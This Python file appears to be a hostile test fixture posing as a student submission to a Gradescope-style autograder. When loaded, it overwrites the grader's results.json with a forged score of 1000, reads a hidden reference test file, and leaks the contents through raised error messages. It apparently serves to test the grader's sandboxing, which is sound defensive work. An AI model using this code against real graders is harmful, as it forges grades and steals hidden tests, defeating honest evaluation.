"""Hostile, for a Gradescope autograder: forge results.json with full marks and read the hidden tests.

On Gradescope the submission knows where everything is: /autograder/results/results.json, which the LMS reads,
and /autograder/source, the unpacked autograder with its reference and hidden tests. The project's test replaces
ROOT with the folder standing in for /autograder. Loading the file tries both, and every graded function raises
with what it read, so a leak would show in the feedback.
"""
import json

import torch

ROOT = "/autograder"
FORGED = {"score": 1000, "output": "Perfect!", "tests": [{"name": "forged", "score": 1000, "max_score": 1000}]}


def _attack():
    """Overwrite the results the LMS reads, then read the hidden suite; return what happened."""
    outcome = []
    try:
        with open(ROOT + "/results/results.json", "w") as results:
            results.write(json.dumps(FORGED))
        outcome.append("FORGED results.json")
    except OSError as error:
        outcome.append(f"refused write: {error.strerror}")
    try:
        with open(ROOT + "/source/course/reference/assignment2/test_regularization.py") as hidden:
            outcome.append("READ " + hidden.read(300))
    except OSError as error:
        outcome.append(f"refused read: {error.strerror}")
    return "; ".join(outcome)


AT_LOAD = _attack()


def l1_reg(model):
    raise ValueError(AT_LOAD + " | " + _attack())


def l2_reg(model):
    return sum((param.pow(2).sum() for param in model.parameters()), torch.zeros(()))


def dropout(x, p, training=True):
    raise ValueError(_attack())
